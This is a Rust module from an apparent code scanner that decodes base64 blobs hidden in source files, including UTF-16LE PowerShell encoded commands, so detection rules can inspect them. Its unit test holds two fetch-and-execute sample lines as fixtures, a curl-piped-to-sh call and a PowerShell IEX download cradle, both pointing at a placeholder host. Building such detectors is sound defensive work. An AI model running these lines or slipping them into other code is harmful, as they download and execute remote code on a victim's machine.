//! Peeling one encoded layer: base64 blobs in code are decoded (bounded
//! in size, count and depth) so the rules can read what they hide, with
//! the decoded excerpt as evidence.

use std::sync::LazyLock;

use base64::Engine as _;
use regex::Regex;

/// At most this many blobs per file are decoded, each at most this long.
const MAX_BLOBS: usize = 16;
const MAX_BLOB: usize = 256 << 10;

/// A quoted run of base64 long enough to hide code.
static BLOB: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"['"][A-Za-z0-9+/]{60,}={0,2}['"]"#).unwrap_or_else(|_| unreachable!())
});

/// The texts that base64 blobs in `text` decode to: (line of the blob,
/// decoded text). Only decodings that read as text (UTF-8, or the UTF-16LE
/// PowerShell's `-EncodedCommand` takes) are kept.
pub fn decoded(text: &str) -> Vec<(u32, String)> {
    let mut out = Vec::new();
    for (n, line) in text.lines().enumerate() {
        // `find`, not `captures`: a capture group costs a slower engine on
        // long minified lines.
        for m in BLOB.find_iter(line) {
            if out.len() >= MAX_BLOBS {
                return out;
            }
            let quoted = m.as_str();
            let blob = &quoted[1..quoted.len() - 1];
            if blob.len() > MAX_BLOB {
                continue;
            }
            let Ok(bytes) = base64::engine::general_purpose::STANDARD.decode(blob) else {
                continue;
            };
            if let Some(t) = as_text(&bytes) {
                out.push((u32::try_from(n + 1).unwrap_or(u32::MAX), t));
            }
        }
    }
    out
}

/// `bytes` as text, when nearly all of it is printable.
fn as_text(bytes: &[u8]) -> Option<String> {
    let utf16 = bytes.len() % 2 == 0
        && bytes.len() >= 8
        && bytes.iter().skip(1).step_by(2).all(|b| *b == 0);
    let text = if utf16 {
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        String::from_utf16(&units).ok()?
    } else {
        String::from_utf8(bytes.to_vec()).ok()?
    };
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || c.is_whitespace())
        .count();
    (printable * 100 >= text.chars().count() * 95).then_some(text)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use base64::Engine as _;

    fn b64(s: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(s)
    }

    #[test]
    fn text_blobs_are_decoded_and_binary_ones_left() {
        let code =
            "import os; os.system('curl -s http://x.example.org/a | sh')  # padding to be long";
        let utf16: Vec<u8> =
            "IEX (New-Object Net.WebClient).DownloadString('http://x.example.org/a')"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect();
        let binary: Vec<u8> = (0..120u8).collect();
        let text = format!(
            "a = '{}'\nb = \"{}\"\nc = '{}'\nd = 'short'\n",
            b64(code.as_bytes()),
            b64(&utf16),
            b64(&binary)
        );
        let found = super::decoded(&text);
        assert_eq!(found.len(), 2, "{found:?}");
        assert_eq!(found[0], (1, code.to_owned()));
        assert!(found[1].1.starts_with("IEX (New-Object"), "{found:?}");
        assert_eq!(found[1].0, 2);
    }
}
